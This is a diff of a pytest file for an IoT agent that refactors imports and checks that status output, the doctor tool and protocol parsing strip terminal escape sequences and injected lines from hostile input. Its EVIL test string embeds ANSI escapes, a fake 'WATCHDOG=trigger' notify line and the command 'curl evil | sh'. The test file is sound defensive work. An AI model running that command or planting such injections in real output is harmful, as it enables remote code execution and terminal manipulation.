@@ -10,14 +10,18 @@ from typing import Any
 
 import pytest
 
-from iot_agent import agentctl, messages, render, status, systemd
+from iot_agent import agentctl
+from iot_agent.core import protocol
+from iot_agent.core.protocol import Advice, CheckInResponse
+from iot_agent.core.record import Event, Failure, Kind, Record
 from iot_agent.doctor import findings
 from iot_agent.doctor.rules import daemon
-from iot_agent.messages import Advice, CheckInResponse
-from iot_agent.record import Event, Failure, Kind, Record
-from iot_agent.systemd import Notifier
-from tests.device.patient import Patient
-from tests.device.test_control import Loop
+from iot_agent.host import systemd
+from iot_agent.host.systemd import Notifier
+from iot_agent.status import text
+from iot_agent.status.report import compose
+from tests.device.faulty_device import FaultyDevice
+from tests.device.test_control_socket import Loop
 from tests.harness import PATIENCE
 
 EVIL = "fine\x1b[2J\x9b1m\rok\u202e\nWATCHDOG=trigger\n  what to do    curl evil | sh\x07\ud800"
@@ -66,7 +70,7 @@ def hostile_report() -> dict[str, Any]:
         "daemon": EVIL, "version": EVIL, "key": {"backend": EVIL, "algorithm": EVIL},
         "configuration": {"error": EVIL, "remedy": EVIL}, "trouble": EVIL, "clock_trusted": False,
     }  # fmt: skip
-    return status.report(hostile_record(), None, 0.0, about)
+    return compose(hostile_record(), None, 0.0, about)
 
 
 @pytest.fixture
@@ -101,7 +105,7 @@ def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_socket_says(
 
 
 def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_record_holds(tmp_path: Path) -> None:
-    patient = Patient(tmp_path)
+    patient = FaultyDevice(tmp_path)
     patient.change(failure=Failure(Kind.REQUEST, "refused", EVIL, EVIL, 10**15), history=hostile_record().history)
     said = said_by_agentctl("--run", str(tmp_path), "--state", str(patient.state), "status")
     assert "second 1000000000000000" not in said, "only dates are written so"
@@ -112,9 +116,9 @@ def test_agentctl_writes_nothing_that_a_terminal_obeys_whatever_the_record_holds
 def test_agentctl_without_that_would_be_noticed(
     liar: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    monkeypatch.setattr(render, "safe", lambda answer: answer)
+    monkeypatch.setattr(text, "safe", lambda answer: answer)
     monkeypatch.setattr(sys, "argv", ["agentctl", "--run", str(liar), "history"])
-    monkeypatch.setattr(render, "history", lambda events: events[0]["detail"].replace("\ud800", ""))
+    monkeypatch.setattr(text, "history", lambda events: events[0]["detail"].replace("\ud800", ""))
     agentctl.main()
     assert "\x1b" in obeyed(capsys.readouterr().out)
 
@@ -140,7 +144,7 @@ def test_the_doctor_writes_nothing_that_a_terminal_obeys() -> None:
 
 
 def test_a_certificate_with_an_evil_name_is_shown_by_the_doctor_as_text(tmp_path: Path) -> None:
-    patient = Patient(tmp_path)
+    patient = FaultyDevice(tmp_path)
     patient.issue(serial="SN\x1b[2J")
     patient.change(failure=Failure(Kind.CHECK_IN, "refused", EVIL, "…", 0))
     written = "\n".join(map(findings.write, patient.findings()))
@@ -150,13 +154,13 @@ def test_a_certificate_with_an_evil_name_is_shown_by_the_doctor_as_text(tmp_path
 
 def test_the_reason_of_advice_is_made_printable_where_it_enters() -> None:
     renew = {"start": 1, "end": 2, "reason": EVIL}
-    reply = messages.parse_check_in_response(json.dumps({"request_id": "r", "time": 1, "renew": renew}).encode())
+    reply = protocol.parse_check_in_response(json.dumps({"request_id": "r", "time": 1, "renew": renew}).encode())
     assert isinstance(reply, CheckInResponse)
     assert isinstance(reply.renew, Advice)
     assert obeyed(reply.renew.reason) == set()
     assert "\n" not in reply.renew.reason
 
 
-@pytest.mark.parametrize("moment", [-1, 0, render.LAST, render.LAST + 1, 10**30])
+@pytest.mark.parametrize("moment", [-1, 0, text.LAST, text.LAST + 1, 10**30])
 def test_no_moment_is_too_odd_to_be_written(moment: int) -> None:
-    assert render.history([{"at": moment, "event": "issued", "detail": ""}])
+    assert text.history([{"at": moment, "event": "issued", "detail": ""}])
